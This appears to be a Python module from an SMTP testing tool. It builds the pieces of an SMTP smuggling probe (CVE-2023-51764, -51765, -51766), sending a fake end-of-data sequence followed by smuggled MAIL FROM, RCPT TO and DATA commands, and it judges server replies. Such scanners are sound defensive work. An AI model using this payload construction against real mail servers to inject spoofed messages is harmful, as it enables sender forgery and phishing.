"""SMTP smuggling (CVE-2023-51764, -51765, -51766), without I/O: what is sent, and what the replies mean.

A message body ends only at CRLF.CRLF (RFC 5321 §4.1.1.4). A server that also takes another
ending (`<LF>.<LF>`, ...) ends the message early, and whatever follows the fake ending is read
as commands: a second MAIL FROM / RCPT TO / DATA "smuggled" inside one message. The test sends a
first message and the fake ending, then each smuggled command in its own write, then the
smuggled body and the real ending, with a pause between the pieces, as the published research
and public scanners do (a server may refuse commands that arrive all at once, and show the
weakness only when they come in pieces).

`verdict` reads the replies that came back, in order: one reply after the real ending is one
message (not vulnerable); a refusal or a closed connection is "refused" (the server would not
take the text, which is not the same as taking it safely); a reply before the real ending and a
2xx to the smuggled MAIL FROM is the finding.
"""

from __future__ import annotations

from dataclasses import dataclass

from runner.smtp.protocol import Reply

__all__ = ["END_OF_DATA", "NOT_VULNERABLE", "REFUSED", "VULNERABLE", "Heard", "Verdict", "ending_name", "pieces",
           "verdict"]

END_OF_DATA = "\r\n.\r\n"  # RFC 5321 §4.1.1.4: the only end of the mail data
VULNERABLE, REFUSED, NOT_VULNERABLE = "vulnerable", "refused", "not vulnerable"
_NAMES = {"\r": "<CR>", "\n": "<LF>", "\x00": "<NUL>"}
REPLIES_IF_TAKEN = 5  # the fake end, MAIL FROM, RCPT TO, DATA, the real end: all a vulnerable server owes


def ending_name(ending: str) -> str:
    """"\\n.\\n" -> "<LF>.<LF>": the way the advisories write an ending."""
    return "".join(_NAMES.get(ch, ch if ch.isprintable() else f"<{ord(ch):02X}>") for ch in ending)


def pieces(ending: str, sender: str, rcpt: str) -> list[str]:
    """What the client writes, each item its own write: the first message with the fake ending, each
    smuggled command (RFC 5321 §4.1.1), the smuggled message with the real ending."""
    name = ending_name(ending)
    return [
        f"Subject: smtprun smuggling test {name}\r\n\r\nThe first message ends here{ending}",
        f"MAIL FROM:<{sender}>\r\n",
        f"RCPT TO:<{rcpt}>\r\n",
        "DATA\r\n",
        f"Subject: smtprun smuggled message\r\n\r\nsmuggled after {name}{END_OF_DATA}",
    ]


@dataclass(frozen=True)
class Heard:
    """A reply, and whether it came before the client had sent the real end of data."""

    reply: Reply
    early: bool


@dataclass(frozen=True)
class Verdict:
    word: str  # VULNERABLE, REFUSED or NOT_VULNERABLE
    detail: str

    @property
    def text(self) -> str:
        return f"{self.word}: {self.detail}"


def verdict(ending: str, heard: list[Heard], closed: bool) -> Verdict | None:
    """What the replies to the pieces say; None when there is nothing to judge (no reply, still open)."""
    name = ending_name(ending)
    if not heard:
        return Verdict(REFUSED, "the server closed the connection without a reply") if closed else None
    first = heard[0]
    when = " before the real end of data" if first.early else ""
    if first.reply.code // 100 != 2:  # 4xx, 5xx: refused; anything else is not an acceptance either
        return Verdict(REFUSED, f"the server answered {first.reply.summary()}{when}")
    if len(heard) > 1 and heard[1].reply.code // 100 == 2:
        return Verdict(VULNERABLE, f"the server answered the smuggled MAIL FROM ({heard[1].reply.summary()}): "
                                   f"it took {name} as the end of the data ({first.reply.summary()})")
    if len(heard) > 1 or first.early:
        then = heard[1].reply.summary() if len(heard) > 1 else "no reply" if not closed else "closed the connection"
        return Verdict(VULNERABLE, f"the server took {name} as the end of the data ({first.reply.summary()}{when}); "
                                   f"to the smuggled MAIL FROM: {then}")
    return Verdict(NOT_VULNERABLE, f"the whole text was taken as one message ({first.reply.summary()})")
